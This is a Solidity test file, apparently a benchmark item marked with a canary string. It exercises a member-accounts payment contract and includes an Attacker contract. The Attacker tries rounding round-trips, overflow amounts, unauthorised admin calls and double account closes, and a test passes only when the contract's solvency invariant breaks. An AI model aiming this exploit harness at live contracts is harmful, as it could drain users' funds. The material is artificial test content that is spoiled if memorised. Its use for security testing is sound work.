// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./MemberAccounts.sol";

// assay-canary-e1618d64-4fb6-4cf6-83df-9b843b1437f7

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 1e15);
    }
}

contract Attacker {
    MemberAccounts internal accounts;
    Dollar internal dollar;
    address public second;

    constructor(MemberAccounts accounts_, Dollar dollar_) {
        second = address(new SecondAccount(accounts_));
        accounts = accounts_;
        dollar = dollar_;
        dollar_.approve(address(accounts_), uint256(-1));
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(accounts).call(data);
    }

    /// Amounts whose price in units is rounded, as many as there are, in both directions and between two accounts.
    function round() public {
        for (uint256 amount = 1; amount <= 12; ++amount) {
            for (uint256 i = 0; i < 4; ++i) {
                _try(abi.encodeWithSelector(accounts.withdraw.selector, amount));
                _try(abi.encodeWithSelector(accounts.deposit.selector, address(this), amount));
            }
        }
        for (uint256 i = 0; i < 40; ++i) _try(abi.encodeWithSelector(accounts.withdraw.selector, 2));
        for (uint256 amount = 1; amount <= 12; ++amount) {
            _try(abi.encodeWithSelector(accounts.payMember.selector, second, amount));
            SecondAccount(second).back(amount);
            _try(abi.encodeWithSelector(accounts.payMember.selector, address(this), amount));
        }
    }

    function run(address victim) external {
        _try(abi.encodeWithSelector(accounts.deposit.selector, address(this), 90_000_000));
        round();
        // coins that nobody has asked for
        dollar.transfer(address(accounts), 5);
        // products and sums that might go around
        _try(abi.encodeWithSelector(accounts.withdraw.selector, uint256(-1)));
        _try(abi.encodeWithSelector(accounts.withdraw.selector, uint256(-1) / 1e18 + 1));
        _try(abi.encodeWithSelector(accounts.payMember.selector, address(this), uint256(-1) / 1e18 + 1));
        _try(abi.encodeWithSelector(accounts.deposit.selector, address(this), uint256(-1) / 1e18 + 2));
        _try(abi.encodeWithSelector(accounts.deposit.selector, address(this), 0));
        _try(abi.encodeWithSelector(accounts.payMember.selector, address(this), accounts.balanceOf(address(this))));
        // what belongs to others: the board, the guardian, a member, a merchant
        _try(abi.encodeWithSelector(accounts.changeStanding.selector, address(this), 2));
        _try(abi.encodeWithSelector(accounts.startDividend.selector, 1));
        _try(abi.encodeWithSelector(accounts.collectIncome.selector, address(this)));
        _try(abi.encodeWithSelector(accounts.setMerchantFee.selector, 0));
        _try(abi.encodeWithSelector(accounts.setAccountLimit.selector, 10_000e6));
        _try(abi.encodeWithSelector(accounts.transferOwnership.selector, address(this)));
        _try(abi.encodeWithSelector(accounts.setDailyLimit.selector, victim, 1));
        _try(abi.encodeWithSelector(accounts.releaseGuardian.selector, victim));
        _try(abi.encodeWithSelector(accounts.collectDirectDebit.selector, victim, 0));
        _try(abi.encodeWithSelector(accounts.collectDirectDebit.selector, victim, 1_000_000));
        _try(abi.encodeWithSelector(accounts.refundMember.selector, address(this), 1));
        _try(abi.encodeWithSelector(accounts.collectTakings.selector));
        // direct debits of one's own, in favour of nobody
        _try(abi.encodeWithSelector(accounts.authoriseDirectDebit.selector, address(this), 1, 1 days));
        _try(abi.encodeWithSelector(accounts.payMerchant.selector, address(this), 1));
        address[] memory recipients = new address[](2);
        uint256[] memory amounts = new uint256[](2);
        (recipients[0], recipients[1]) = (address(this), second);
        (amounts[0], amounts[1]) = (accounts.balanceOf(address(this)), 1);
        _try(abi.encodeWithSelector(accounts.payMembers.selector, recipients, amounts));
        amounts[0] = 1;
        _try(abi.encodeWithSelector(accounts.payMembers.selector, recipients, amounts));
    }

    /// An account emptied in halves, and closed twice.
    function leave() external {
        round();
        for (uint256 i = 0; i < 20; ++i) {
            _try(abi.encodeWithSelector(accounts.withdraw.selector, accounts.balanceOf(address(this)) / 2));
        }
        _try(abi.encodeWithSelector(accounts.closeAccount.selector));
        _try(abi.encodeWithSelector(accounts.closeAccount.selector));
    }
}

contract SecondAccount {
    MemberAccounts internal accounts;

    constructor(MemberAccounts accounts_) {
        accounts = accounts_;
    }

    function back(uint256 amount) external {
        (bool ok, ) = address(accounts).call(abi.encodeWithSelector(accounts.payMember.selector, msg.sender, amount));
        ok;
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    Dollar private dollar;
    MemberAccounts private accounts;
    Attacker private outsider;
    address private constant ANNA = address(0x91A);
    address private constant BRUNO = address(0x9014);
    address private constant GROCER = address(0x5009);
    address private constant PARENT = address(0x9A7E);

    function setUp() public {
        vm.warp(1_763_000_000);
        dollar = new Dollar();
        accounts = new MemberAccounts(dollar, 250e6);
        dollar.approve(address(accounts), uint256(-1));
        accounts.changeStanding(ANNA, MembershipRegister.Standing.Member);
        accounts.changeStanding(BRUNO, MembershipRegister.Standing.Member);
        accounts.changeStanding(GROCER, MembershipRegister.Standing.Merchant);
        accounts.setMerchantFee(100);
        accounts.deposit(ANNA, 240e6);
        accounts.deposit(BRUNO, 240e6);
        vm.prank(BRUNO);
        accounts.payMerchant(GROCER, 1e6);
        vm.prank(BRUNO);
        accounts.appointGuardian(PARENT);
        // a thousand dollars in a week, then a small dividend, of which a part has been earned
        accounts.startDividend(1_653);
        vm.warp(1_763_000_000 + 7 days);
        accounts.startDividend(3);
        vm.warp(1_763_000_000 + 10 days);
        outsider = new Attacker(accounts, dollar);
        accounts.changeStanding(address(outsider), MembershipRegister.Standing.Member);
        accounts.changeStanding(outsider.second(), MembershipRegister.Standing.Member);
        dollar.transfer(address(outsider), 100e6);
    }

    function test_Regular() public {
        uint256 worth = accounts.balanceOf(ANNA);
        require(worth > 740e6 && worth < 742e6, "the dividend is shared");
        require(accounts.totalBalance() > worth + accounts.balanceOf(BRUNO) - 2, "total");
        require(accounts.numberOfMembers() == 4 && accounts.memberAt(0) == ANNA, "register");
        require(accounts.unvestedDividend() == 3 * 4 days, "not earned yet");

        accounts.setAccountLimit(5_000e6);
        accounts.deposit(outsider.second(), 10e6);
        vm.prank(ANNA);
        accounts.payMerchant(GROCER, 4_500_000);
        require(accounts.takingsOf(GROCER) == 5_445_000 && accounts.uncollectedFees() == 55_000, "a merchant is paid");
        vm.prank(ANNA);
        accounts.withdraw(4e6);
        require(dollar.balanceOf(ANNA) == 4e6 && accounts.balanceOf(ANNA) >= worth - 8_500_002, "taken out");
        worth = accounts.balanceOf(BRUNO);
        vm.prank(ANNA);
        accounts.payMember(BRUNO, 2e6);
        require(accounts.balanceOf(BRUNO) >= worth + 2e6 - 4, "another member is paid");
        address[] memory recipients = new address[](2);
        uint256[] memory amounts = new uint256[](2);
        (recipients[0], recipients[1]) = (BRUNO, ANNA);
        (amounts[0], amounts[1]) = (3e6, 1e6);
        vm.prank(ANNA);
        accounts.payMembers(recipients, amounts);
        require(accounts.balanceOf(BRUNO) >= worth + 5e6 - 8, "several members are paid");

        vm.prank(PARENT);
        accounts.setDailyLimit(BRUNO, 10e6);
        vm.prank(BRUNO);
        accounts.authoriseDirectDebit(GROCER, 6e6, 30 days);
        vm.prank(GROCER);
        accounts.collectDirectDebit(BRUNO, 6e6);
        require(accounts.takingsOf(GROCER) == 5_445_000 + 5_940_000, "collected");
        vm.prank(BRUNO);
        accounts.cancelDirectDebit(GROCER);
        vm.prank(PARENT);
        accounts.releaseGuardian(BRUNO);
        vm.prank(GROCER);
        accounts.refundMember(ANNA, 385_000);
        vm.prank(GROCER);
        require(accounts.collectTakings() == 11e6 && dollar.balanceOf(GROCER) == 11e6, "takings");
        vm.prank(ANNA);
        require(accounts.closeAccount() > 726e6 && accounts.unitsOf(ANNA) == 0, "closed");

        vm.warp(block.timestamp + 5 days);
        require(accounts.unvestedDividend() == 0, "earned");
        uint256 reserve = accounts.uncollectedReserve();
        require(reserve > 2e6 && accounts.collectIncome(address(0x1)) == reserve + 115_000, "income");
        require(dollar.balanceOf(address(0x1)) == reserve + 115_000 && accounts.uncollectedReserve() == 0, "counted once");
        accounts.interruptPayments();
        vm.prank(BRUNO);
        accounts.withdraw(1e6);
        accounts.resumePayments();
        accounts.changeStanding(BRUNO, MembershipRegister.Standing.None);
        require(accounts.numberOfMembers() == 3, "left");
        vm.prank(BRUNO);
        accounts.closeAccount();
        accounts.transferOwnership(ANNA);
        vm.prank(ANNA);
        accounts.renounceOwnership();
    }

    /// There is a coin for everything that is owed.
    function covered() public view returns (bool) {
        uint256 owed = accounts.totalBalance() + accounts.totalTakings() + accounts.uncollectedFees();
        return dollar.balanceOf(address(accounts)) >= owed + accounts.unvestedDividend() + accounts.uncollectedReserve();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesTerms() public {
        vm.expectRevert("The currency must not be the zero address.");
        new MemberAccounts(IERC20(0), 250e6);
        vm.expectRevert("The account limit is out of range.");
        new MemberAccounts(dollar, 50e6 - 1);
        vm.expectRevert("The account limit is out of range.");
        accounts.setAccountLimit(10_000e6 + 1);
        vm.expectRevert("The fee is too large.");
        accounts.setMerchantFee(201);
        vm.expectRevert("A dividend must distribute something.");
        accounts.startDividend(0);
        vm.expectRevert("The last dividend has not ended yet.");
        accounts.startDividend(1);
        vm.warp(1_763_000_000 + 14 days);
        accounts.startDividend(1);
    }

    function test_RefusesStrangers() public {
        dollar.transfer(ANNA, 10e6);
        vm.prank(ANNA);
        dollar.approve(address(accounts), 10e6);
        vm.warp(1_763_000_000 + 14 days);
        bytes memory why = "Ownable: caller is not the owner";
        refuses(ANNA, why);
        accounts.startDividend(1);
        refuses(ANNA, why);
        accounts.collectIncome(ANNA);
        refuses(ANNA, why);
        accounts.setAccountLimit(100e6);
        refuses(ANNA, why);
        accounts.setMerchantFee(1);
        refuses(ANNA, why);
        accounts.changeStanding(ANNA, MembershipRegister.Standing.Merchant);
        refuses(ANNA, why);
        accounts.interruptPayments();
        refuses(ANNA, why);
        accounts.resumePayments();
        refuses(ANNA, why);
        accounts.transferOwnership(ANNA);
        refuses(ANNA, why);
        accounts.renounceOwnership();
        vm.expectRevert("The account must not be the zero address.");
        accounts.changeStanding(address(0), MembershipRegister.Standing.Member);
    }

    function test_RefusesWhileInterrupted() public {
        vm.prank(ANNA);
        accounts.authoriseDirectDebit(GROCER, 1e6, 1 days);
        vm.expectRevert("Pausable: not paused");
        accounts.resumePayments();
        accounts.interruptPayments();
        bytes memory why = "Pausable: paused";
        vm.expectRevert(why);
        accounts.interruptPayments();
        address roomy = outsider.second();
        vm.expectRevert(why);
        accounts.deposit(roomy, 1e6);
        refuses(ANNA, why);
        accounts.payMember(roomy, 1e6);
        refuses(ANNA, why);
        accounts.payMembers(new address[](0), new uint256[](0));
        refuses(ANNA, why);
        accounts.payMerchant(GROCER, 1e6);
        refuses(GROCER, why);
        accounts.collectDirectDebit(ANNA, 1e6);
    }

    function test_RefusesPayments() public {
        vm.expectRevert("The account does not belong to a member.");
        accounts.deposit(address(0xBEE), 1e6);
        address roomy = outsider.second();
        vm.expectRevert("The amount is too small.");
        accounts.deposit(roomy, 1);
        vm.expectRevert("The account would exceed its limit.");
        accounts.deposit(roomy, 251e6);
        refuses(ANNA, "The account does not belong to a member.");
        accounts.payMember(GROCER, 1e6);
        refuses(ANNA, "The account would exceed its limit.");
        accounts.payMember(BRUNO, 1e6);
        refuses(ANNA, "The recipient must be a merchant.");
        accounts.payMerchant(BRUNO, 1e6);
        refuses(ANNA, "The account does not hold this amount.");
        accounts.withdraw(800e6);
        refuses(GROCER, "The takings are smaller than this amount.");
        accounts.refundMember(roomy, 1e6);
        refuses(ANNA, "Each recipient needs an amount.");
        accounts.payMembers(new address[](1), new uint256[](0));
        refuses(ANNA, "Each recipient needs an amount.");
        accounts.payMembers(new address[](0), new uint256[](1));
        address[] memory many = new address[](51);
        uint256[] memory amounts = new uint256[](51);
        for (uint256 i = 0; i < 51; ++i) (many[i], amounts[i]) = (roomy, 1e5);
        refuses(ANNA, "There are too many recipients.");
        accounts.payMembers(many, amounts);
    }

    function test_RefusesDirectDebits() public {
        refuses(ANNA, "The recipient must be a merchant.");
        accounts.authoriseDirectDebit(BRUNO, 1e6, 1 days);
        refuses(ANNA, "The period must be between a day and a year.");
        accounts.authoriseDirectDebit(GROCER, 1e6, 1 days - 1);
        refuses(ANNA, "The period must be between a day and a year.");
        accounts.authoriseDirectDebit(GROCER, 1e6, 366 days + 1);
        refuses(GROCER, "The amount is not authorised.");
        accounts.collectDirectDebit(ANNA, 1e6);
        vm.prank(ANNA);
        accounts.authoriseDirectDebit(GROCER, 1e6, 30 days);
        refuses(GROCER, "The amount is not authorised.");
        accounts.collectDirectDebit(ANNA, 1e6 + 1);
        refuses(GROCER, "The amount is not authorised.");
        accounts.collectDirectDebit(ANNA, 0);
        vm.prank(GROCER);
        accounts.collectDirectDebit(ANNA, 1e6);
        vm.prank(ANNA);
        accounts.authoriseDirectDebit(GROCER, 2e6, 1 days);
        vm.warp(block.timestamp + 30 days - 1);
        refuses(GROCER, "The period has not ended yet.");
        accounts.collectDirectDebit(ANNA, 1e6);
        vm.warp(block.timestamp + 1);
        vm.prank(GROCER);
        accounts.collectDirectDebit(ANNA, 2e6);
        vm.prank(ANNA);
        accounts.cancelDirectDebit(GROCER);
        vm.warp(block.timestamp + 1 days);
        refuses(GROCER, "The amount is not authorised.");
        accounts.collectDirectDebit(ANNA, 1);
    }

    function test_RefusesSpending() public {
        refuses(ANNA, "The guardian must be another account.");
        accounts.appointGuardian(address(0));
        refuses(ANNA, "The guardian must be another account.");
        accounts.appointGuardian(ANNA);
        refuses(BRUNO, "The account has a guardian already.");
        accounts.appointGuardian(ANNA);
        refuses(BRUNO, "Only the guardian may set the daily limit.");
        accounts.setDailyLimit(BRUNO, 1e9);
        refuses(BRUNO, "Only the guardian or the board may end a guardianship.");
        accounts.releaseGuardian(BRUNO);
        vm.prank(PARENT);
        accounts.setDailyLimit(BRUNO, 5e6);
        refuses(BRUNO, "The daily limit would be exceeded.");
        accounts.withdraw(5e6 + 1);
        refuses(BRUNO, "The daily limit would be exceeded.");
        accounts.closeAccount();
        vm.prank(BRUNO);
        accounts.withdraw(4e6);
        refuses(BRUNO, "The daily limit would be exceeded.");
        accounts.payMerchant(GROCER, 1e6 + 1);
        vm.warp(block.timestamp + 1 days);
        vm.prank(BRUNO);
        accounts.payMerchant(GROCER, 5e6);
        accounts.releaseGuardian(BRUNO);
        vm.prank(BRUNO);
        accounts.closeAccount();
    }

    function exploit() public {
        outsider.run(BRUNO);
        vm.warp(block.timestamp + 2 days);
        outsider.leave();
    }

    function test_Exploit() public {
        require(covered(), "before");
        exploit();
        require(!covered(), "all is covered");
    }

    function target() public view returns (address) {
        return address(accounts);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
